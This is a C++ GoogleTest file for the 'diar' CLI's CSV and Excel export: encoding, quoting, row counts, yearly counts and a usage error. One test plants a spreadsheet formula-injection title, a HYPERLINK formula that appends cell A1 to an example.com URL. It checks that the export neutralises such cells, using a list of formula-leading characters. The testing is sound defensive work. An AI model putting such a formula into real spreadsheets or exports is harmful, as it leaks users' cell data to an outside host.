// `diar export` for Excel and for document lists: --excel CSV that a
// standard CSV reader splits on ';' with every character intact,
// --documents with one row per matching document, --counts --by year.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include <map>
#include <set>

#include "tests/foundation/cli_runner.h"

namespace diar {
namespace {

using testing::RunDiar;
using testing::TempDir;
using testing::WriteFile;

// RFC 4180 as Excel and Python's csv module read it: quoted fields may hold
// the separator, doubled quotes and line breaks; records end with CRLF.
std::vector<std::vector<std::string>> ReadCsv(const std::string& text, char sep) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  std::string field;
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == sep) {
      row.push_back(std::move(field));
      field.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      row.push_back(std::move(field));
      field.clear();
      rows.push_back(std::move(row));
      row.clear();
      ++i;
    } else {
      field += c;
    }
  }
  EXPECT_FALSE(quoted) << "the CSV ends inside a quoted field";
  EXPECT_TRUE(field.empty() && row.empty()) << "the last record has no CRLF";
  return rows;
}

class ExportForExcel : public ::testing::Test {
 protected:
  void SetUp() override {
    // A file name with a quote, a semicolon and a line break, and a title
    // with Swedish letters, quotes and a semicolon.
    tricky_ = docs_.path() / "Plan \"Ö\"; del\n2.txt";
    WriteFile(tricky_,
              "Riktlinje för \"grön\" omställning; Åre och Västerås\nDatum 2021-06-01\n\n"
              "Regionstyrelsen antog riktlinjen. Kulturnämnden yttrade sig.\n");
    WriteFile(docs_.path() / "b.txt",
              "Protokoll\nDatum 2022-05-10\n\nRegionstyrelsen godkände cykelplanen. Regionstyrelsen återkommer.\n");
    WriteFile(docs_.path() / "c.txt", "Protokoll\nDatum 2022-09-01\n\nKulturnämnden godkände kulturplanen.\n");
    testing::RunResult r = RunDiar(index_.path(), {"ingest", docs_.path().string()});
    ASSERT_EQ(r.exit_code, 0) << r.err;
  }

  std::string Export(const std::vector<std::string>& args) {
    testing::RunResult r = RunDiar(index_.path(), args);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    return r.out;
  }

  TempDir docs_, index_;
  std::filesystem::path tricky_;
};

TEST_F(ExportForExcel, ExcelCsvStartsWithAByteOrderMarkAndSplitsOnSemicolons) {
  const std::string out = Export({"export", "--documents", "--excel", "--format", "csv"});
  ASSERT_EQ(out.rfind("\xEF\xBB\xBF", 0), 0u);
  auto rows = ReadCsv(out.substr(3), ';');
  ASSERT_EQ(rows.size(), 4u);
  EXPECT_EQ(rows[0], (std::vector<std::string>{"id", "paths", "title", "type", "date", "issuer", "county", "dnr",
                                               "topics"}));
  for (const auto& row : rows) EXPECT_EQ(row.size(), 9u);
}

TEST_F(ExportForExcel, ExcelCsvRoundTripsSwedishLettersQuotesSemicolonsAndNewlines) {
  const std::string out = Export({"export", "--documents", "--excel", "--format", "csv"});
  const nlohmann::json shown = nlohmann::json::parse(Export({"show", tricky_.string(), "--format", "json"}));
  bool found = false;
  for (const auto& row : ReadCsv(out.substr(3), ';')) {
    if (row[0] != shown["id"]) continue;
    found = true;
    EXPECT_EQ(row[1], tricky_.string());
    EXPECT_EQ(row[2], shown["classification"]["title"].get<std::string>());
    EXPECT_NE(row[2].find("\"grön\" omställning; Åre och Västerås"), std::string::npos) << row[2];
  }
  EXPECT_TRUE(found);
}

TEST_F(ExportForExcel, MentionsCsvForExcelKeepsTheColumnsOfThePlainCsv) {
  auto excel = ReadCsv(Export({"export", "--excel", "--format", "csv"}).substr(3), ';');
  auto plain = ReadCsv(Export({"export", "--format", "csv"}), ',');
  ASSERT_EQ(excel.size(), plain.size());
  for (std::size_t r = 0; r < plain.size(); ++r) {
    ASSERT_EQ(excel[r].size(), plain[r].size());
    for (std::size_t c = 0; c < plain[r].size(); ++c) {
      // The same text, or a cell that would start a formula shown as text.
      const std::string& p = plain[r][c];
      const bool formula = !p.empty() && std::string("=+-@\t\r").find(p[0]) != std::string::npos;
      EXPECT_EQ(excel[r][c], formula ? "'" + p : p) << "row " << r << " column " << c;
    }
  }
}

// A title a document chose to be a formula: Excel must show it, not run it.
TEST(ExcelCsv, AFormulaInATitleArrivesAsText) {
  TempDir docs, index;
  const std::string formula = "=HYPERLINK(\"https://example.com/?d=\"&A1;\"Klicka här\")";
  WriteFile(docs.path() / "formel.txt", formula + "\nDatum 2021-06-01\n\nRegionstyrelsen antog planen.\n");
  WriteFile(docs.path() / "plus.txt", "+ Tillägg till budgeten för 2021\nDatum 2021-06-02\n\nKulturnämnden yttrade sig.\n");
  ASSERT_EQ(RunDiar(index.path(), {"ingest", docs.path().string()}).exit_code, 0);
  testing::RunResult excel = RunDiar(index.path(), {"export", "--documents", "--excel", "--format", "csv"});
  ASSERT_EQ(excel.exit_code, 0) << excel.err;
  testing::RunResult plain = RunDiar(index.path(), {"export", "--documents", "--format", "csv"});
  ASSERT_EQ(plain.exit_code, 0) << plain.err;
  std::map<std::string, std::string> excel_titles, plain_titles;  // by document id
  for (const auto& row : ReadCsv(excel.out.substr(3), ';')) excel_titles[row[0]] = row[2];
  for (const auto& row : ReadCsv(plain.out, ',')) plain_titles[row[0]] = row[2];
  ASSERT_EQ(excel_titles.size(), 3u);  // the header and two documents
  int formulas = 0;
  for (const auto& [id, title] : plain_titles) {
    if (id == "id") continue;
    // Plain CSV is for programs: the exact title; Excel's shows it as text.
    ASSERT_TRUE(title.rfind(formula, 0) == 0 || title.rfind("+ Tillägg till budgeten för 2021", 0) == 0) << title;
    EXPECT_EQ(excel_titles[id], "'" + title);
    ++formulas;
  }
  EXPECT_EQ(formulas, 2);
}

TEST_F(ExportForExcel, DocumentsExportHasOneRowPerSearchHitForTheSameQueryAndFilters) {
  for (const std::vector<std::string>& query : std::vector<std::vector<std::string>>{
           {"regionstyrelsen"}, {"--filter", "type=protokoll"}, {"kulturnämnden", "--from", "2022"}, {}}) {
    std::vector<std::string> search = {"search", "--format", "json", "--facets"};  // exact total
    search.insert(search.end(), query.begin(), query.end());
    const int total = nlohmann::json::parse(Export(search))["total"];
    std::vector<std::string> exp = {"export", "--documents", "--format", "jsonl"};
    exp.insert(exp.end(), query.begin(), query.end());
    const std::string out = Export(exp);
    EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), total) << ::testing::PrintToString(query);
  }
}

TEST_F(ExportForExcel, CountsByYearSplitEachValueByTheDocumentsYear) {
  std::map<std::string, int> mentions;
  for (const auto& row : ReadCsv(Export({"export", "--counts", "--by", "year", "--type", "body", "--format", "csv"}), ',')) {
    if (row[1] == "Regionstyrelsen") mentions[row[2]] = std::stoi(row[3]);
  }
  EXPECT_EQ(mentions, (std::map<std::string, int>{{"2021", 1}, {"2022", 2}}));
}

TEST_F(ExportForExcel, ExcelWithAnotherFormatIsAUsageError) {
  testing::RunResult r = RunDiar(index_.path(), {"export", "--excel", "--format", "jsonl"});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("--excel"), std::string::npos) << r.err;
}

}  // namespace
}  // namespace diar
